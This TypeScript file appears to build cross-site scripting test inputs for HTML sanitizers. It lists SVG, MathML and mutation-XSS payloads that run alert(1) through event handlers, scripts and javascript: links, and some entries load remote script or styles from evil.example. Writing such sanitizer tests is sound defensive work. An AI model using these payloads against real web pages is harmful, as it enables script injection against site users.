import { amongWords, type HostileFamily } from './family.ts'

const SVG = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script>&#97;lert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)" />',
  '<svg><script xlink:href=//evil.example/s></script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1) attributeName=x>',
  '<svg><animateTransform onbegin=alert(1) attributeName=transform dur=1s>',
  '<svg><animateMotion onbegin=alert(1) dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=5 y=20>x</text></a></svg>',
  '<svg><a href="javascript:alert(1)"><rect width=9 height=9 /></a></svg>',
  '<svg><image href=x onerror=alert(1)>',
  '<svg><image href="//evil.example/i" /></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  "<svg><style>@import '//evil.example/s';</style></svg>",
  '<svg><title><script>alert(1)</script></title></svg>',
  '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><g onclick=alert(1)><rect width=9 height=9 /></g></svg>',
  '<svg><rect style="fill:red;mask:url(//evil.example/m#a)" width=9 height=9 /></svg>',
]

const MATHML = [
  '<math onclick=alert(1)><mi>x</mi></math>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math><style><img src=x onerror=alert(1)></style></math>',
  '<math><mi style="display:block;background:url(//evil.example/m)">x</mi></math>',
]

/** What changes when it is read, written and read again. */
const CHANGED_BY_WRITING = [
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<xmp><p title="</xmp><svg onload=alert(1)>">',
  '<noembed><a title="</noembed><img src=x onerror=alert(1)>">',
  '<title><p id="</title><img src=x onerror=alert(1)>">',
]

/** As one program may hand a text on to the next: read without scripts, written, and read once more. */
function readTwice(text: string): string {
  const source = JSON.stringify(text).replaceAll('<', '\\u003c')
  const first = `new DOMParser().parseFromString('<body>' + ${source}, 'text/html').body.innerHTML`
  return `<p>Before</p><script>document.write(${first})</script>`
}

/** Markup of the languages within HTML, and markup that the change from one to the other makes. */
export const FOREIGN: readonly HostileFamily[] = [
  { name: 'SVG', careless: amongWords, texts: SVG },
  { name: 'MathML', careless: amongWords, texts: MATHML },
  { name: 'changed by writing', careless: readTwice, texts: CHANGED_BY_WRITING },
]
